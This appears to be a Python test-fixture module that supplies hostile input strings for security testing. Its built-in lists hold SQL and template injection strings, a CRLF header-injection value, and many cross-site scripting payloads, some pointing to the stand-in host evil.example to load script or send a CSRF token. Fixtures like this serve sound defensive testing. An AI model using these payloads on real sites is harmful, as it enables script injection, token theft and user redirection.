"""Hostile strings: from the folder beside the repository where it is there, else a few of our own."""

import json

from tests.samples import FOLDER, sample

DATA = FOLDER / "data"
OWN_NAUGHTY = [
    "", "null", "\\", "1/0", "NaN", "0x", "１２３", "‏עברית‏", "\u202eoverride\u202d", "\ufeff", "\u200b",
    "👩‍👩‍👧‍👦", "Ω≈ç√", "ﷺ" * 8, "Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮", "' OR 1=1 --", "%00", "{{ 7*7 }}", "${7*7}", "%s%n",
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "]]>",
    "[a](javascript:alert(1))", "a\r\nSet-Cookie: x=1", "\t", "\v\f", "\x7f\x80", "`" * 50, "|a|\n|-|",
]  # fmt: skip
OWN_XSS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>", "[x](javascript:alert(1))", "![x](data:text/html,1)",
    "<iframe srcdoc='<script>alert(1)</script>'>", "'\"><script src=//evil.example></script>",
    "<math><mtext><style><img src=x onerror=alert(1)></style>", "[x](  JaVaScRiPt:alert(1))",
    "<form action=//evil.example><input name=csrf_token>", "<base href=//evil.example>",
    "<object data=x><embed src=x><meta http-equiv=refresh content=0>", "[x](//evil.example)",
    "<http://x onmouseover=alert(1)>", "[a]: javascript:alert(1)\n[a]", "|<b onclick=x>|\n|-|",
    "{{constructor.constructor('alert(1)')()}}", "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "--><script>alert(1)</script>", "` onfocus=alert(1) autofocus `",
]  # fmt: skip


def naughty_strings() -> list[str]:
    file = DATA / "naughty-strings.json"
    found: list[str] = json.loads(file.read_text("utf-8")) if file.exists() else OWN_NAUGHTY
    return found


def xss_payloads(step: int) -> list[str]:
    """Our own, and every so many of the others."""
    file = DATA / "xss-payloads.txt"
    others = file.read_text("utf-8", "replace").splitlines() if file.exists() else []
    return OWN_XSS + others[::step]


def open_redirects() -> list[str]:
    text = sample("data/open-redirects.txt").read_text("utf-8", "replace")
    return [line for line in text.splitlines() if line]
